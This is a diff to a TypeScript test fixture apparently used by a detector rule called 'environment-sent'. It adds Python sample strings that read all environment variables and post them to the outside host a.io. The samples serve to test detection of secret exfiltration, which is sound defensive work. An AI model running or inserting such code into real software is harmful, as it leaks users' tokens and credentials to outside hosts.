@@ -164,4 +164,14 @@ export const hiddenSiblings: readonly (readonly [way: string, rule: RuleId, code
     'environment-sent',
     'import urllib.request, os\nurllib.request.build_opener().open("https://a.io", str(os.environ).encode())',
   ],
+  [
+    'an environment in another mapping',
+    'environment-sent',
+    'import os, requests\nd = {"env": dict(os.environ)}\nrequests.post("https://a.io", json=d["env"])',
+  ],
+  [
+    'a part of the text of the environment',
+    'environment-sent',
+    'import os, requests\ntext = str(dict(os.environ))\nrequests.post("https://a.io", data=text[:99].encode())',
+  ],
 ];
